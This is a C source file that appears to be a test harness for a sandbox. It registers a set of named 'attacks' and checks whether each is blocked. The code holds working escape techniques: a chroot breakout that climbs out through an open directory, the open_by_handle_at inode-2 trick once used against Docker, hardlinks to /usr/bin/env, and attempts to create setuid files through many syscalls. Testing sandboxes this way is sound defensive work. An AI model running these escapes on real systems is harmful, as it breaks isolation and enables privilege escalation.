#include "escape.h"

static void by_linkat(void) {
    int file = open("/usr/bin/env", O_PATH);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", file);
    linkat(file, "", AT_FDCWD, "by-descriptor", AT_EMPTY_PATH);
    linkat(AT_FDCWD, path, AT_FDCWD, "by-link", AT_SYMLINK_FOLLOW);
    int folder = open("/usr/bin", O_RDONLY | O_DIRECTORY);
    linkat(folder, "env", AT_FDCWD, "by-folder", 0);
    unlink("by-folder"), unlink("by-link"), unlink("by-descriptor");
}

/* The classic: change the root while a folder outside it is open, and climb. */
static void chroot_out(void) {
    int here = open(".", O_RDONLY | O_DIRECTORY);
    mkdir("jail", 0755);
    worked("chroot", chroot("jail"));
    if (fchdir(here) == 0)
        for (int i = 0; i < 64; i++)
            if (chdir("..")) break;
    if (chroot(".") == 0) {
        char content[256] = {0};
        int file = open(env("CANARY"), O_RDONLY);
        if (file >= 0 && read(file, content, 255) > 0) puts(content);
    }
}

static void handles(void) {
    struct { struct file_handle head; char data[128]; } handle = {.head = {.handle_bytes = 128}};
    int mount;
    worked("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", &handle, &mount, 0));
    /* The root folder of ext4 is inode 2: what was used against docker's first versions. */
    struct { struct file_handle head; unsigned data[2]; } root = {.head = {.handle_bytes = 8, .handle_type = 1}, .data = {2, 0}};
    int here = open(".", O_RDONLY);
    worked("open_by_handle_at", syscall(SYS_open_by_handle_at, here, &root, O_RDONLY));
}

/* All calls that take a mode, and by which a file could become set-user-id; what is denied leaves a file without. */
static void set_user_id(void) {
    int mode = 06755, made = open("plain", O_CREAT | O_WRONLY, 0755);
    struct { unsigned long flags, mode, resolve; } how = {O_CREAT | O_WRONLY, 06755, 0};
    const char *names[] = {"a", "b", "c", "d"};
    for (int i = 0; i < 4; i++) close(open(names[i], O_CREAT | O_WRONLY, 0755));
    mode = 04755;
    syscall(SYS_chmod, "a", mode);
    syscall(SYS_fchmod, open("b", O_RDONLY), mode);
    syscall(SYS_fchmodat, AT_FDCWD, "c", mode);
    syscall(452 /* fchmodat2 */, AT_FDCWD, "d", mode, 0);
    syscall(SYS_fchmod, made, 0xdead00000000UL | mode);
    syscall(SYS_creat, "e", 06755);
    syscall(SYS_open, "f", O_CREAT | O_WRONLY, 06755);
    syscall(SYS_openat, AT_FDCWD, "g", O_CREAT | O_WRONLY | O_EXCL, 06755);
    syscall(437 /* openat2 */, AT_FDCWD, "h", &how, sizeof how);
    syscall(SYS_mknod, "i", S_IFREG | 06755, 0);
    syscall(SYS_mknodat, AT_FDCWD, "j", S_IFREG | 06755, 0);
    int nameless = open(".", O_TMPFILE | O_WRONLY, 06755);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", nameless);
    linkat(AT_FDCWD, path, AT_FDCWD, "k", AT_SYMLINK_FOLLOW);
}

int main(int argc, char **argv) {
    static const struct attack attacks[] = {{"linkat", by_linkat}, {"chroot_out", chroot_out}, {"handles", handles},
                                           {"set_user_id", set_user_id}, {0}};
    return start(attacks, argc, argv);
}
